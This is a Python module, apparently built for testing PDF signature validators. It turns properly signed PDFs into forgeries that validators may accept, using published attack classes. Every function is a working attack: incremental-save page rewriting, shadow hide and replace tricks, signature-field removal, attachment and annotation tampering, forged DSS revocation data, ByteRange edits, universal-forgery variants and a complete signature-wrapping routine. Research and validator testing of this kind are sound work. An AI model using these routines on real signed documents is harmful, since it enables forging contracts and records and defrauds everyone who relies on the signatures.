"""Attacks on signed PDF, made from properly signed files: each takes bytes and gives bytes.

Sources: Mladenov et al. 2019 (universal forgery, incremental saving, signature wrapping), Mainka et al. 2021 (shadow
attacks), Rohlmann et al. 2021 (evil annotation).
"""

import re
from collections.abc import Callable, Mapping, Sequence

Attack = Callable[[bytes], bytes]
RANGE = re.compile(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\s*\]")


def update(pdf: bytes, objects: Mapping[int, bytes], *, freed: Sequence[int] = (), trailer: bytes = b"") -> bytes:
    """An incremental update with a cross-reference table of its own."""
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    root = re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]
    size = max([int(each) for each in re.findall(rb"/Size (\d+)", pdf)] + [number + 1 for number in objects])
    out, places = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n"), {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n"
    for number in sorted({*places, *freed}):
        entry = (places[number], 0, b"n") if number in places else (0, 1, b"f")
        out += b"%d 1\n%010d %05d %s \n" % (number, *entry)
    out += b"trailer\n<< /Size %d /Root %s /Prev %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, previous, trailer, start)
    return bytes(out)


def object_of(pdf: bytes, number: int) -> bytes:
    """The newest text of an object that is written plainly."""
    found = re.findall(rb"(?:^|\n)%d 0 obj\s*(.*?)\s*endobj" % number, pdf, re.DOTALL)
    return bytes(found[-1])


def root_number(pdf: bytes) -> int:
    """The number of the catalog."""
    return int(re.findall(rb"/Root (\d+) 0 R", pdf)[-1])


def stream(text: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(text), more, text)


def incremental_save(pdf: bytes) -> bytes:
    """Other words on the page."""
    return update(pdf, {11: stream(b"BT /F1 24 Tf 72 700 Td (You owe me a million) Tj ET")})


def new_page(pdf: bytes) -> bytes:
    """One more page."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 901 0 R >>"
    pages = b"<< /Type /Pages /Kids [10 0 R 900 0 R] /Count 2 >>"
    return update(pdf, {2: pages, 900: page, 901: stream(b"BT /F1 24 Tf 72 700 Td (More) Tj ET")})


def hide(pdf: bytes) -> bytes:
    """Shadow attack, hide: the picture that covered the true content is taken away."""
    return update(pdf, {}, freed=[20])


def swap_overlay(pdf: bytes) -> bytes:
    """Shadow attack, hide: the picture is made empty."""
    return update(pdf, {20: stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1]")})


def replace_font(pdf: bytes) -> bytes:
    """Shadow attack, replace: the font is defined anew, so that the same text reads differently."""
    return update(pdf, {3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>"})


def hide_and_replace(pdf: bytes) -> bytes:
    """Shadow attack, hide-and-replace: a page prepared in the signed file comes to light."""
    return update(pdf, {2: b"<< /Type /Pages /Kids [30 0 R] /Count 1 >>"})


def garbage(pdf: bytes) -> bytes:
    """Bytes after the end."""
    return pdf + b"\nalert(1)\n"


def second_end(pdf: bytes) -> bytes:
    """An object and a second end of file, outside of any cross-references."""
    return pdf + b"11 0 obj\n" + stream(b"BT (forged) Tj ET") + b"\nendobj\n%%EOF\n"


def remove_signature(pdf: bytes) -> bytes:
    """A form without the signed field."""
    number = root_number(pdf)
    catalog = re.sub(rb"/AcroForm\s*(\d+ 0 R|<<.*?>>)", b"/AcroForm << /Fields [] >>", object_of(pdf, number), flags=re.DOTALL)
    return update(pdf, {number: catalog})


def change_attachment(pdf: bytes) -> bytes:
    """Other data in the attached file."""
    return update(pdf, {41: stream(b"forged", b"/Type /EmbeddedFile")})


def annotate(pdf: bytes) -> bytes:
    """A text over the page, as an annotation."""
    page = object_of(pdf, 10)
    annots = b"/Annots [" + (re.findall(rb"/Annots \[(.*?)\]", page) or [b""])[0] + b" 910 0 R]"
    page = re.sub(rb"/Annots \[.*?\]", b"", page)[:-2] + annots + b" >>"
    note = b"<< /Type /Annot /Subtype /FreeText /Rect [50 600 500 750] /DA (/Helv 40 Tf) /Contents (forged) /P 10 0 R >>"
    return update(pdf, {10: page, 910: note})


def forge_dss(pdf: bytes, crls: Sequence[bytes]) -> bytes:
    """Validation data of the attacker's own making."""
    number = root_number(pdf)
    catalog = re.sub(rb"/DSS \d+ 0 R", b"", object_of(pdf, number))[:-2] + b"/DSS 920 0 R >>"
    lists = {930 + index: stream(each) for index, each in enumerate(crls)}
    named = b" ".join(b"%d 0 R" % each for each in lists)
    return update(pdf, {number: catalog, 920: b"<< /Type /DSS /CRLs [" + named + b"] >>", **lists})


def set_range(pdf: bytes, change: Callable[[list[int]], list[int]]) -> bytes:
    """Other numbers in /ByteRange, in the same room."""
    found = list(RANGE.finditer(pdf))[-1]
    numbers = change([int(each) for each in found.groups()])
    text = b"/ByteRange [" + b" ".join(b"%d" % each for each in numbers)
    return pdf[: found.start()] + text.ljust(found.end() - found.start() - 1) + b"]" + pdf[found.end() :]


def empty_value(pdf: bytes) -> bytes:
    """Universal forgery: /Contents of zeros."""
    start, end = value_place(pdf)
    return pdf[:start] + b"0" * (end - start) + pdf[end:]


def without(pdf: bytes, key: bytes) -> bytes:
    """Universal forgery: a key of the signature dictionary under another name."""
    place = pdf.rindex(key)
    return pdf[:place] + key[:-1] + b"X" + pdf[place + len(key) :]


def value_place(pdf: bytes) -> tuple[int, int]:
    """Where the hexadecimal digits of the last signature stand."""
    _, length, second, _ = (int(each) for each in RANGE.findall(pdf)[-1])
    return length + 1, second - 1


def wrap(pdf: bytes) -> bytes:
    """Signature wrapping: the second signed piece moves to the end, the attacker's objects and references stand in the gap."""
    match = list(RANGE.finditer(pdf))[-1]
    _, length, second, rest = (int(each) for each in match.groups())
    tail, gap = pdf[second : second + rest], bytearray(pdf[length:second])
    table = int(re.findall(rb"startxref\s+(\d+)", tail)[-1])
    begin = list(re.finditer(rb"(\d+) 0 obj", pdf[:length]))[-1]
    places = {int(each[1]): each.start(1) for each in re.finditer(rb"(\d+) 0 obj", pdf[: begin.start()])}
    moved = {int(each[1]): each[0] for each in re.finditer(rb"(\d+) 0 obj.*?endobj\n?", tail, re.DOTALL)}
    moved[11] = b"11 0 obj\n" + stream(b"BT /F1 24 Tf 72 700 Td (forged) Tj ET") + b"\nendobj\n"
    number = int(begin[1])
    size = max(*places, *moved, number) + 1
    room = size * 20 + 200
    objects = bytearray()
    for each, body in moved.items():
        places[each] = table + room + len(objects)
        objects += body
    places[number] = table + room + len(objects)
    after = places[number] + length - begin.start() + (second - length) + 200
    objects += pdf[begin.start() : second] + b" /ByteRange [0 %d %d %d] >>\nendobj\n" % (length, after, rest)
    refs = b"xref\n0 %d\n" % size
    for each in range(size):
        refs += b"%010d %05d %s \n" % ((places[each], 0, b"n") if each in places else (0, 65535, b"f"))
    refs += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (size, root_number(pdf))
    gap += b" " * (table - second)
    return (pdf[:length] + bytes(gap) + refs.ljust(room) + bytes(objects)).ljust(after) + tail
